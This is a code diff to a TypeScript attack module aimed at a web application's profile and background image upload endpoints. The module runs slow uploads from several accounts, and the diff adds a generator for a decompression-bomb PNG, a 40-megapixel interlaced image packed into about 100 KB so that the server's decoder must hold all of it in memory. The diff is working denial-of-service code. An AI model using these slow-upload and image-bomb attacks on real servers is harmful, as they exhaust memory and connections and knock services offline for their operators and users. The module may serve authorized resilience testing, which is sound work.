@@ -1,6 +1,7 @@
 import { setMaxListeners } from 'node:events'
 import { request } from 'node:http'
 import { setTimeout as pause } from 'node:timers/promises'
+import { crc32, deflateSync } from 'node:zlib'
 
 export interface Victim {
   readonly headers: Readonly<Record<string, string>>
@@ -11,7 +12,6 @@ interface AttackTarget {
   readonly url: string
   /** The first account makes the slow uploads; each other one sends a picture and edits its profile. */
   readonly owners: readonly Victim[]
-  readonly picture: Uint8Array<ArrayBuffer>
 }
 
 export const ATTACKERS = 12
@@ -32,9 +32,9 @@ const slowUploads: Attack = ({ url, owners: [owner] }, signal) =>
     slowUpload(`${url}/api/upload/profile-image/${owner!.profileId}`, owner!.headers, signal),
   )
 
-async function picture({ url, picture: bytes }: AttackTarget, owner: Victim): Promise<number> {
+async function picture({ url }: AttackTarget, owner: Victim): Promise<number> {
   const body = new FormData()
-  body.append('file', new Blob([bytes], { type: 'image/png' }), 'foto.png')
+  body.append('file', new Blob([PICTURE], { type: 'image/png' }), 'foto.png')
   const path = `/api/upload/background-image/${owner.profileId}`
   return statusOf(`${url}${path}`, { method: 'POST', headers: owner.headers, body })
 }
@@ -154,3 +154,45 @@ function slowUpload(
     upload.once('response', (response) => end(response.statusCode ?? 0))
   })
 }
+
+const WIDTH = 8_000
+const HEIGHT = 5_000
+const CHANNELS = 3
+/** Adam7: first column, first row, column step and row step of each pass. */
+const PASSES = [
+  [0, 0, 8, 8],
+  [4, 0, 8, 8],
+  [0, 4, 4, 8],
+  [2, 0, 4, 4],
+  [0, 2, 2, 4],
+  [1, 0, 2, 2],
+  [0, 1, 1, 2],
+] as const
+
+function chunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
+  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
+  length.writeUInt32BE(data.length)
+  check.writeUInt32BE(crc32(body))
+  return Buffer.concat([length, body, check])
+}
+
+/** A black picture of 40 megapixels in about 100 KB. Interlaced, so that a decoder holds all of it. */
+function hugePicture(): Buffer {
+  const head = Buffer.alloc(13)
+  head.writeUInt32BE(WIDTH, 0)
+  head.writeUInt32BE(HEIGHT, 4)
+  head.set([8, 2, 0, 0, 1], 8)
+  const bytes = PASSES.reduce((sum, [x, y, everyX, everyY]) => {
+    const [columns, rows] = [Math.ceil((WIDTH - x) / everyX), Math.ceil((HEIGHT - y) / everyY)]
+    return sum + rows * (1 + columns * CHANNELS)
+  }, 0)
+  return Buffer.concat([
+    Buffer.from('\x89PNG\r\n\x1A\n', 'latin1'),
+    chunk('IHDR', head),
+    chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 })),
+    chunk('IEND', Buffer.alloc(0)),
+  ])
+}
+
+const PICTURE = new Uint8Array(hugePicture())
